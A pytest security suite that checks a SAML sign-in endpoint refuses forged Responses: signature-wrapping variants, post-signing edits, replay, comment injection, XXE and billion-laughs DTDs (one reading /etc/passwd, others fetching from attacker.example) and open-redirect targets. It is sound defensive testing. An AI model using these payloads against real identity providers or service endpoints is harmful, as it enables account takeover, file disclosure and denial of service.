"""The SAML attack suite: every known way to get a forged or stale Response accepted, tried
against the real ACS for each way an IdP signs (the Response, the Assertion, both).

Each attack must leave nobody signed in (the session stays anonymous, no Identity is
linked, no user is made), be recorded with its own reason (audit event and flight
recorder row), and answer with the friendly failure page, never a 500. A positive
control per signing mode proves the same set-up does sign in when nothing is tampered
with, so every refusal here is the attack's doing.
"""
from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

import pytest

from models import AuditEvent, Identity, SamlResponseLog, User, db

from ..saml.conftest import idp, saml  # noqa: F401  (the SAML engineer's fixtures)
from ..saml_idp import (SP_ENTITY_ID, encode, make_key_pair, okta_attributes, post_response,
                        saml_time, start_login)
from . import saml_tampering as tamper

MODES = ["response", "assertion", "both"]

VICTIM_LOGIN = "admin@corp.example"
VICTIM_NAME_ID = "00u1victimadminlobby"
VICTIM = (VICTIM_NAME_ID, VICTIM_LOGIN)
ATTACKER_NAME_ID = "00u1erinlobbytest"  # the TestIdP's default subject: Erin, an ordinary employee

FAILED_PREFIX = "/internal-api/auth/integrations/saml2/failed?"


@pytest.fixture
def victim(app, saml, make_user):  # noqa: F811
    """An admin who signs in with SSO: a user and the Identity linking the IdP's NameID to it."""
    user = make_user(VICTIM_LOGIN, admin=True, given_name="Victor", family_name="Admin")
    with app.app_context():
        db.session.add(Identity(provider=saml.entity_id, identifier=VICTIM_NAME_ID, user_id=user.id))
        db.session.commit()
    return user


@dataclass
class Outcome:
    reason: str
    reference: str
    page_status: int


class Acs:
    """One browser going through an SP-initiated sign-in, and what the database looked like before."""

    def __init__(self, app, client, idp):  # noqa: F811
        self.app, self.client, self.idp = app, client, idp
        self.request = start_login(client)
        self.snapshot()

    def snapshot(self) -> None:
        """What a refusal must leave exactly as it is."""
        with self.app.app_context():
            self.users = {u.id: (u.user_name, u.active) for u in User.query.all()}
            self.identities = {(i.identifier, i.user_id) for i in Identity.query.all()}
            self.successes = AuditEvent.query.filter_by(action="auth.login", outcome="success").count()

    def response(self, mode: str, **options) -> str:
        return self.idp.response(self.request.id, sign=mode, **options)

    def post(self, xml: str | None = None, *, raw: str | None = None, relay_state: str | None = "same",
             client=None):
        relay = self.request.relay_state if relay_state == "same" else relay_state
        return post_response(client or self.client, xml, relay, raw=raw)

    def refused(self, reply, *reason_parts: str, kind: str = "error", app=None, client=None) -> Outcome:
        """Assert everything a refusal must be; returns the recorded reason."""
        app, client = app or self.app, client or self.client
        assert reply.status_code == 303, (reply.status_code, reply.get_data(as_text=True)[:2000])
        location = reply.headers["Location"]
        assert location.startswith(FAILED_PREFIX), location
        assert f"kind={kind}" in location, location
        match = re.search(r"ref=([A-Z0-9]{8})", location)
        assert match, location
        reference = match.group(1)
        with app.app_context():
            event = AuditEvent.query.filter_by(action="auth.login", reference=reference).one()
            assert event.outcome == "failure" and event.actor == "anonymous"
            assert event.details["method"] == "saml"
            for part in reason_parts:
                assert part in event.reason, f"expected {part!r} in the reason {event.reason!r}"
            row = SamlResponseLog.query.filter_by(reference=reference).one()
            assert row.verdict == "rejected" and row.reason == event.reason
            assert AuditEvent.query.filter_by(action="auth.login", outcome="success").count() == self.successes
            # Nobody made, nobody changed, nothing linked.
            assert {u.id: (u.user_name, u.active) for u in User.query.all()} == self.users
            assert {(i.identifier, i.user_id) for i in Identity.query.all()} == self.identities
            reason = event.reason
        self.assert_anonymous(client)
        page = client.get(location)
        assert page.status_code in (401, 403), page.status_code
        text = page.get_data(as_text=True)
        assert reference in text and "Back to sign-in" in text
        assert "Traceback" not in text
        return Outcome(reason, reference, page.status_code)

    @staticmethod
    def assert_anonymous(client) -> None:
        home = client.get("/")
        assert home.status_code == 302 and "/login" in home.headers["Location"], home.status_code

    def signed_in(self, reply, user_name: str = "erin@example.com") -> None:
        assert reply.status_code == 303 and reply.headers["Location"] == "/", (
            reply.status_code, reply.headers.get("Location"))
        assert self.client.get("/").status_code == 200
        with self.app.app_context():
            event = AuditEvent.query.filter_by(action="auth.login", outcome="success").one()
            assert event.actor == user_name


@pytest.fixture
def acs(app, client, saml, victim):  # noqa: F811
    return Acs(app, client, saml)


# --- positive controls --------------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
def test_control_untampered_response_signs_in(acs, mode):
    acs.signed_in(acs.post(acs.response(mode)))


@pytest.mark.parametrize("mode", MODES)
def test_control_dom_roundtrip_keeps_the_signature_valid(acs, mode):
    """The tampering tools' parse-and-write changes nothing a signature covers."""
    xml = tamper.roundtrip(acs.response(mode))
    assert "<?xml" not in xml  # it really went through the DOM
    acs.signed_in(acs.post(xml))


def test_control_the_refusal_check_fails_on_a_sign_in(acs):
    """The checker every attack goes through does catch a Response that got through."""
    with pytest.raises(AssertionError):
        acs.refused(acs.post(acs.response("both")), INVALID)


# --- XML Signature Wrapping ----------------------------------------------------------------

# Why each shape is refused, by signing mode: the first check to notice wins, and every reason
# names a signature or structure problem, never a downstream symptom.
INVALID = "Invalid signature: the signature does not verify with the configured IdP certificate(s)"
TWO_ASSERTIONS = "The Response holds 2 assertions; exactly one is accepted"
UNSIGNED = "Missing signature: neither the Response nor the assertion is signed"
XSW_REASONS = {
    # Response wrapping: the Reference names an element that is not the one carrying the signature
    # (pysaml2 demands an enveloped signature over its own parent) or the digest no longer matches.
    ("XSW1", "response"): INVALID, ("XSW1", "assertion"): INVALID, ("XSW1", "both"): INVALID,
    ("XSW2", "response"): INVALID, ("XSW2", "assertion"): INVALID, ("XSW2", "both"): INVALID,
    # A second Assertion beside the first is refused before any signature is looked at.
    ("XSW3", "response"): TWO_ASSERTIONS, ("XSW3", "assertion"): TWO_ASSERTIONS, ("XSW3", "both"): TWO_ASSERTIONS,
    # The evil Assertion carries the signed one inside it: with only the Assertion signed, the
    # Assertion Lobby reads has no signature; with a signed Response, its digest breaks.
    ("XSW4", "response"): INVALID, ("XSW4", "assertion"): UNSIGNED, ("XSW4", "both"): INVALID,
    ("XSW5", "response"): TWO_ASSERTIONS, ("XSW5", "assertion"): TWO_ASSERTIONS, ("XSW5", "both"): TWO_ASSERTIONS,
    # The original hidden in the Signature (XSW6), in Extensions under the same ID (XSW7), in a
    # ds:Object (XSW8): the signature over what Lobby reads does not verify.
    ("XSW6", "response"): INVALID, ("XSW6", "assertion"): INVALID, ("XSW6", "both"): INVALID,
    ("XSW7", "response"): INVALID, ("XSW7", "assertion"): INVALID, ("XSW7", "both"): INVALID,
    ("XSW8", "response"): INVALID, ("XSW8", "assertion"): INVALID, ("XSW8", "both"): INVALID,
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("variant", list(tamper.XSW))
def test_signature_wrapping(acs, mode, variant):
    xml = tamper.XSW[variant](acs.response(mode), VICTIM)
    # The forgery is what a naive reader would take: the victim's NameID and login are in it,
    # next to the genuine signature over the attacker's own assertion.
    assert VICTIM_NAME_ID in xml and VICTIM_LOGIN in xml and ATTACKER_NAME_ID in xml
    assert "SignatureValue" in xml
    acs.refused(acs.post(xml), XSW_REASONS[variant, mode])


# --- a genuine signed Response hidden inside a forged one ------------------------------------

HIDDEN_REASONS = {
    ("extensions", "response"): UNSIGNED, ("extensions", "assertion"): UNSIGNED, ("extensions", "both"): UNSIGNED,
    ("key_info", "response"): INVALID, ("key_info", "assertion"): INVALID, ("key_info", "both"): INVALID,
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("place", ["extensions", "key_info"])
def test_genuine_response_hidden_in_a_forged_one(acs, mode, place):
    build = {"extensions": tamper.hidden_in_extensions, "key_info": tamper.hidden_in_key_info}[place]
    genuine = acs.response(mode)
    xml = build(genuine, VICTIM)
    # The whole genuine Response, signature and all, is inside the forgery.
    assert tamper.parse(genuine).documentElement.getAttribute("ID") in xml and xml.count("SignatureValue") >= 1
    acs.refused(acs.post(xml), HIDDEN_REASONS[place, mode])


# --- signatures ---------------------------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
def test_signature_removed(acs, mode):
    xml = tamper.remove_signatures(acs.response(mode))
    assert "Signature" not in xml
    acs.refused(acs.post(xml), UNSIGNED)


@pytest.mark.parametrize("mode", MODES)
def test_signed_by_another_key_with_its_certificate_embedded(acs, mode):
    attacker = make_key_pair("attacker-idp")
    xml = acs.response(mode, signing_keys=attacker, name_id=VICTIM_NAME_ID,
                       attributes=okta_attributes(email=VICTIM_LOGIN))
    assert attacker.cert_body[:60] in xml.replace("\n", "")  # the attacker's certificate rides in KeyInfo
    acs.refused(acs.post(xml), INVALID)


def _now():
    return datetime.now(timezone.utc)


def _swap_times(old: datetime, new: datetime):
    return lambda xml: tamper.replace_all(xml, saml_time(old), saml_time(new))


CHANGED_AFTER_SIGNING = {
    # name: (options for the genuine Response, the change made after signing)
    "NameID": (dict(), lambda xml: tamper.replace_all(xml, f">{ATTACKER_NAME_ID}<", f">{VICTIM_NAME_ID}<")),
    "attribute value (upn)": (dict(attributes=okta_attributes(email="erin@example.com", login="erin@corp.example")),
                              lambda xml: tamper.replace_all(xml, ">erin@corp.example<", f">{VICTIM_LOGIN}<")),
    "attribute value (department)": (dict(), lambda xml: tamper.replace_all(xml, ">Sales<", ">Board<")),
    "Audience": (dict(audience="https://another-app.example/saml"),
                 lambda xml: tamper.replace_all(xml, ">https://another-app.example/saml<", f">{SP_ENTITY_ID}<")),
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("change", list(CHANGED_AFTER_SIGNING))
def test_changed_after_signing(acs, mode, change):
    options, after = CHANGED_AFTER_SIGNING[change]
    acs.refused(acs.post(acs.response(mode, after_signing=after, **options)), INVALID)


@pytest.mark.parametrize("mode", MODES)
def test_conditions_times_changed_after_signing(acs, mode):
    """An expired assertion whose NotOnOrAfter (Conditions and subject) is pushed into the future."""
    expired = _now() - timedelta(minutes=10)
    xml = acs.response(mode, not_on_or_after=expired, after_signing=_swap_times(expired, _now() + timedelta(hours=8)))
    acs.refused(acs.post(xml), INVALID)


@pytest.mark.parametrize("mode", MODES)
def test_not_before_changed_after_signing(acs, mode):
    later = _now() + timedelta(hours=1)
    xml = acs.response(mode, not_before=later, after_signing=_swap_times(later, _now() - timedelta(minutes=1)))
    acs.refused(acs.post(xml), INVALID)


# --- time window, addressing, issuer ------------------------------------------------------------

def _expired():
    return dict(not_on_or_after=_now() - timedelta(minutes=10))


def _not_yet_valid():
    return dict(not_before=_now() + timedelta(minutes=10))


REFUSED_AS_SIGNED = {
    # name: (options, reason)
    "expired": (_expired, "Outside the time window: the assertion expired at"),
    "not yet valid": (_not_yet_valid, "Outside the time window: the assertion is valid only from"),
    "issued in the future": (lambda: dict(issue_instant=_now() + timedelta(minutes=10)),
                             "Outside the time window: the Response was issued"),
    "wrong Audience": (lambda: dict(audience="https://another-app.example/saml"),
                       "Wrong Audience: the assertion is meant for 'https://another-app.example/saml'"),
    "wrong Destination": (lambda: dict(destination="https://evil.example/acs"),
                          "Wrong Destination: 'https://evil.example/acs'"),
    "wrong Recipient": (lambda: dict(recipient="https://evil.example/acs"),
                        "Wrong Recipient: the subject confirmation names 'https://evil.example/acs'"),
    "wrong Issuer (Response and Assertion)": (lambda: dict(issuer="http://www.okta.com/exkEVIL"),
                                              "Wrong Issuer: the Response was issued by 'http://www.okta.com/exkEVIL'"),
    "wrong Issuer (Assertion only)": (lambda: dict(assertion_issuer="http://www.okta.com/exkEVIL"),
                                      "Wrong Issuer: the assertion was issued by 'http://www.okta.com/exkEVIL'"),
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("case", list(REFUSED_AS_SIGNED))
def test_genuinely_signed_but_not_for_this_sign_in(acs, mode, case):
    """Signed with the IdP's real key, but stale, early or addressed to someone else."""
    options, reason = REFUSED_AS_SIGNED[case]
    acs.refused(acs.post(acs.response(mode, **options())), reason)


@pytest.mark.parametrize("mode", MODES)
def test_wrong_issuer_signed_with_its_own_key(acs, mode):
    """Another IdP (say, another Okta tenant) signs correctly with its own key."""
    from ..saml_idp import TestIdP
    other = TestIdP(entity_id="http://www.okta.com/exkOTHERTENANT", keys=make_key_pair("other-tenant"))
    xml = other.response(acs.request.id, sign=mode, name_id=VICTIM_NAME_ID,
                         attributes=okta_attributes(email=VICTIM_LOGIN))
    acs.refused(acs.post(xml), "Wrong Issuer: the Response was issued by 'http://www.okta.com/exkOTHERTENANT'")


# --- InResponseTo and replay --------------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
def test_unknown_in_response_to(acs, mode):
    xml = acs.idp.response("id-never-sent-by-lobby", sign=mode)
    acs.refused(acs.post(xml), "InResponseTo 'id-never-sent-by-lobby' does not name an AuthnRequest this Lobby "
                               "sent and still awaits")


@pytest.mark.parametrize("mode", MODES)
def test_reused_in_response_to(app, acs, mode):
    """A second, freshly signed Response for an AuthnRequest that was already answered."""
    acs.signed_in(acs.post(acs.response(mode)))
    acs.snapshot()
    other = app.test_client()
    reply = acs.post(acs.response(mode), client=other)
    acs.refused(reply, f"InResponseTo {acs.request.id!r} does not name an AuthnRequest this Lobby sent and still "
                       "awaits (unknown, expired or already used)", client=other)


@pytest.mark.parametrize("mode", MODES)
def test_replay_of_a_consumed_assertion(app, acs, mode):
    xml = acs.response(mode)
    acs.signed_in(acs.post(xml))
    acs.snapshot()
    other = app.test_client()
    acs.refused(acs.post(xml, client=other), "Replay: assertion", client=other)


@pytest.mark.parametrize("mode", MODES)
def test_replay_of_a_consumed_assertion_through_another_process(app, make_app, acs, mode):
    xml = acs.response(mode)
    acs.signed_in(acs.post(xml))
    acs.snapshot()
    second = make_app()
    assert second is not app
    stranger = second.test_client()
    acs.refused(acs.post(xml, client=stranger), "Replay: assertion", app=second, client=stranger)


@pytest.mark.parametrize("mode", MODES)
def test_replayed_assertion_id_on_a_new_request(app, acs, mode):
    """The assertion ID is remembered even when the attacker pairs it with a fresh AuthnRequest."""
    acs.signed_in(acs.post(acs.response(mode, assertion_id="id-assertion-once")))
    acs.snapshot()
    other = app.test_client()
    fresh = start_login(other)
    xml = acs.idp.response(fresh.id, sign=mode, assertion_id="id-assertion-once")
    acs.refused(post_response(other, xml, fresh.relay_state), "Replay: assertion 'id-assertion-once'", client=other)


# --- comment injection --------------------------------------------------------------------------

COMMENT_VICTIM = "admin@corp.example"
COMMENT_SIGNED = "admin@corp.example.evil.example"  # what the attacker can really get signed at the IdP


@pytest.mark.parametrize("mode", MODES)
def test_comment_injected_into_the_nameid_and_login(app, acs, mode, victim):
    """``admin@corp.example<!---->.evil.example``: exclusive c14n drops the comment, so the signature
    still verifies; a reader that stops at the comment would see the victim."""
    with app.app_context():
        # The victim's SSO link is the bare address, so a truncated NameID would find it.
        identity = Identity.query.filter_by(user_id=victim.id).one()
        identity.identifier = COMMENT_VICTIM
        db.session.commit()
    acs.snapshot()
    xml = acs.response(mode, name_id=COMMENT_SIGNED,
                       attributes=okta_attributes(email=COMMENT_SIGNED, login=COMMENT_SIGNED),
                       after_signing=lambda x: tamper.replace_all(x, COMMENT_SIGNED,
                                                                  "admin@corp.example<!---->.evil.example"))
    assert xml.count("<!---->") == 3  # NameID, email, upn
    acs.refused(acs.post(xml), "The Response contains an XML comment")


# --- XML parser attacks ------------------------------------------------------------------------

def _with_doctype(doctype: str, entity_use: str | None = None):
    def change(xml: str) -> str:
        xml = xml.replace("?>", "?>" + doctype, 1)
        if entity_use:
            xml = tamper.replace_all(xml, f">{ATTACKER_NAME_ID}<", f">{entity_use}<")
        return xml
    return change


PARSER_ATTACKS = {
    "external entity (file)": _with_doctype(
        '<!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "external entity (URL)": _with_doctype(
        '<!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', "&xxe;"),
    "external parameter entity": _with_doctype(
        '<!DOCTYPE saml2p:Response [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]>'),
    "external DTD": _with_doctype('<!DOCTYPE saml2p:Response SYSTEM "http://attacker.example/saml.dtd">'),
    "billion laughs": _with_doctype(
        "<!DOCTYPE saml2p:Response [" + '<!ENTITY lol0 "lol">' + "".join(
            f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "]>", "&lol9;"),
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("attack", list(PARSER_ATTACKS))
def test_xml_parser_attacks(acs, mode, attack):
    xml = acs.response(mode, after_signing=PARSER_ATTACKS[attack])
    assert "<!DOCTYPE" in xml
    acs.refused(acs.post(xml), "The Response contains a DOCTYPE or entity declaration")


# --- size and encoding -------------------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
def test_oversized_but_genuinely_signed_response(acs, mode):
    """Signed by the real IdP, yet 300 KB: refused on its size before any XML parser runs."""
    xml = acs.response(mode, attributes=okta_attributes(department="x" * 300 * 1024))
    assert len(xml) > 300 * 1024
    acs.refused(acs.post(xml), "The SAMLResponse is larger than 256 KB")


@pytest.mark.parametrize("mode", MODES)
def test_oversized_post_body(acs, mode):
    padded = encode(acs.response(mode)) + "\n" * (600 * 1024)  # base64 may carry line breaks
    acs.refused(acs.post(raw=padded), "bytes, larger than any sign-in")


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("damage", ["truncated", "foreign character", "url-safe alphabet"])
def test_malformed_base64(acs, mode, damage):
    good = encode(acs.response(mode))
    bad = {"truncated": good[:-1],
           "foreign character": good[:100] + "*" + good[101:],
           "url-safe alphabet": good.replace("+", "-").replace("/", "_")}[damage]
    assert bad != good
    acs.refused(acs.post(raw=bad), "The SAMLResponse is not valid base64")


# --- deactivated users --------------------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("matched_by", ["NameID link", "login"])
def test_response_for_a_deactivated_user(app, saml, victim, client, make_user, mode, matched_by):  # noqa: F811
    user = make_user("erin@example.com", active=False, source="scim")
    if matched_by == "NameID link":
        with app.app_context():
            db.session.add(Identity(provider=saml.entity_id, identifier=ATTACKER_NAME_ID, user_id=user.id))
            db.session.commit()
    acs = Acs(app, client, saml)
    outcome = acs.refused(acs.post(acs.response(mode)), "The user erin@example.com is deactivated",
                          kind="deactivated")
    assert outcome.page_status == 403


# --- no open redirect through RelayState (or the next it stands for) ----------------------------

FOREIGN_TARGETS = ["https://evil.example/", "//evil.example/path", "/\\evil.example", "\\\\evil.example",
                   "https:evil.example", "javascript:alert(1)", "http://lobby.test.evil.example/",
                   " //evil.example/", "/\t/evil.example"]


def _lands_home(reply) -> None:
    assert reply.status_code == 303, reply.get_data(as_text=True)[:500]
    assert reply.headers["Location"] == "/", reply.headers["Location"]


@pytest.mark.parametrize("target", FOREIGN_TARGETS)
def test_foreign_relay_state_lands_on_home(acs, target):
    """The RelayState Lobby sent is an opaque handle; one swapped for a URL is never followed."""
    _lands_home(acs.post(acs.response("assertion"), relay_state=target))
    assert acs.client.get("/").status_code == 200


@pytest.mark.parametrize("target", FOREIGN_TARGETS)
def test_foreign_next_through_sso_lands_on_home(app, client, saml, victim, target):  # noqa: F811
    """A foreign ?next= on the SSO start is dropped before it is stored with the AuthnRequest."""
    from urllib.parse import quote
    request = start_login(client, quote(target, safe=""))
    with app.app_context():
        from models import SamlOutstandingRequest
        assert db.session.get(SamlOutstandingRequest, request.id).next_path == "/"
    _lands_home(post_response(client, saml.response(request.id), request.relay_state))


def test_local_next_survives_but_not_a_swapped_relay_state(app, client, saml, victim):  # noqa: F811
    """Control: the genuine handle brings the person to their page; a swapped one only to /."""
    request = start_login(client, "/admin/users")
    reply = post_response(client, saml.response(request.id), request.relay_state)
    assert reply.headers["Location"] == "/admin/users"
    other = app.test_client()
    request = start_login(other, "/admin/users")
    _lands_home(post_response(other, saml.response(request.id), "https://evil.example/admin/users"))


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/"])
def test_unsolicited_response_with_a_url_relay_state_goes_nowhere_but_the_failure_page(acs, target):
    """An IdP-initiated Response (no InResponseTo) carrying a URL as RelayState is refused outright."""
    xml = acs.idp.response(None, sign="both")
    outcome = acs.refused(acs.post(xml, relay_state=target), "answers no AuthnRequest")
    with acs.app.app_context():
        assert SamlResponseLog.query.filter_by(reference=outcome.reference).one().relay_state == target
